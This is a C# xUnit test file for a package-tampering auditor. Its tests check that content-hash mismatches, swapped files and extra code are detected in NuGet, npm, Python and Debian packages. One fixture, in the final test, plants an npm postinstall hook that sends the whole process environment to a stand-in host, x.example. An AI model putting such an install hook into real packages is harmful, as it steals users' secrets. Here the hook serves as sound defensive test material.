using System.Security.Cryptography;
using System.Text;
using Astra.Auditor;
using Astra.Auditor.Cage;
using Xunit;
using static Astra.Tests.Auditing.PlantedPackages;

namespace Astra.Tests.Auditing;

/// <summary>Bytes that are not the ones promised.</summary>
public sealed class HashTests : IDisposable
{
    private readonly PlantedPackages _planted = new();

    public void Dispose() => _planted.Dispose();

    [Fact]
    public void An_archive_with_the_recorded_content_hash_is_unremarkable()
    {
        var hash = _planted.PlantNuGet("Planted", "1.0.0", ("lib/readme.txt", "hello"u8.ToArray()));
        _planted.InspectNuGetFolder("contentHash:" + hash).IsUnremarkable();
    }

    [Fact]
    public void An_archive_with_another_content_hash_is_a_mismatch()
    {
        _planted.PlantNuGet("Planted", "1.0.0", ("lib/readme.txt", "hello"u8.ToArray()));
        _planted.InspectNuGetFolder("contentHash:" + Convert.ToBase64String(SHA512.HashData("other"u8))).IsCaughtBy("hash-mismatch");
    }

    [Fact]
    public void A_file_swapped_after_extraction_differs_from_its_archive()
    {
        var hash = _planted.PlantNuGet("Planted", "1.0.0", ("lib/a.dll", "original"u8.ToArray()));
        _planted.Write("nuget/planted/1.0.0/lib/a.dll", "swapped!"u8.ToArray());
        _planted.InspectNuGetFolder("contentHash:" + hash).IsCaughtBy("installed-differs");
    }

    [Fact]
    public void Code_added_beside_the_archive_is_found()
    {
        var hash = _planted.PlantNuGet("Planted", "1.0.0", ("lib/a.txt", "original"u8.ToArray()));
        _planted.Write("nuget/planted/1.0.0/build/Planted.targets", "<Project />");
        _planted.InspectNuGetFolder("contentHash:" + hash).IsCaughtBy("installed-extra-code");
    }

    [Fact]
    public void A_tarball_is_compared_with_its_integrity()
    {
        var archive = Tgz(TarFile("package/package.json", """{"name":"planted","version":"1.0.0"}"""));
        var integrity = "sha512-" + Convert.ToBase64String(SHA512.HashData(archive));
        _planted.InspectNpmArchive(archive, integrity).IsUnremarkable();
        _planted.InspectNpmArchive([.. archive, 0], integrity).IsCaughtBy("hash-mismatch");
    }

    [Fact]
    public void An_installed_python_file_is_compared_with_its_record()
    {
        _planted.PlantPython(("planted/__init__.py", "x = 1\n"));
        _planted.InspectSite().IsUnremarkable();
        _planted.Write("site/planted/__init__.py", "x = 2\n");
        _planted.InspectSite().IsCaughtBy("installed-edited");
    }

    [Fact]
    public void A_python_module_that_no_record_names_is_found()
    {
        _planted.PlantPython(("planted/__init__.py", "x = 1\n"));
        _planted.Write("site/planted/extra.py", "y = 1\n");
        _planted.InspectSite().IsCaughtBy("installed-extra-code");
    }

    [Fact]
    public void A_debian_file_is_compared_with_its_md5sum()
    {
        var sum = Convert.ToHexStringLower(
#pragma warning disable CA5351 // dpkg records nothing stronger.
            MD5.HashData("tool"u8));
#pragma warning restore CA5351
        _planted.Write("root/usr/bin/tool", "tool");
        var info = _planted.Write("info/tool.md5sums", $"{sum}  usr/bin/tool\n");
        InspectAnswer Inspect() => Inspector.Inspect(new InspectRequest
        {
            Ecosystem = Ecosystem.Dpkg, Id = "tool", Version = "1",
            Parts = [new PackagePart(PartKind.DpkgInfo, info), new PackagePart(PartKind.DpkgRoot, Path.Combine(_planted.Root, "root/usr"))],
        });
        Inspect().IsUnremarkable();
        _planted.Write("root/usr/bin/tool", "fool");
        Inspect().IsCaughtBy("installed-edited");
    }

    [Fact]
    public void The_word_of_false_comfort_is_in_no_rule()
    {
        foreach (var rule in Rules.All)
            Assert.DoesNotContain("safe", $"{rule.Title} {rule.Explanation} {rule.WhatToDo}", StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Every_rule_explains_itself_and_says_what_to_do()
    {
        Assert.Equal(Rules.All.Count, Rules.All.Select(rule => rule.Id).Distinct().Count());
        Assert.All(Rules.All, rule => Assert.True(rule.Explanation.Length > 10 && rule.WhatToDo.Length > 5, rule.Id));
    }

    [Fact]
    public void Reading_the_same_package_twice_gives_the_same_answer()
    {
        var first = _planted.InspectNpm(("package.json", """{"scripts":{"postinstall":"node a.js"}}"""), ("a.js", "require('https').get('https://x.example/' + JSON.stringify(process.env))"));
        var second = _planted.InspectNpm();
        Assert.Equal(Encoding.UTF8.GetString(Astra.Sdk.AstraJson.Write(first)), Encoding.UTF8.GetString(Astra.Sdk.AstraJson.Write(second)));
    }
}
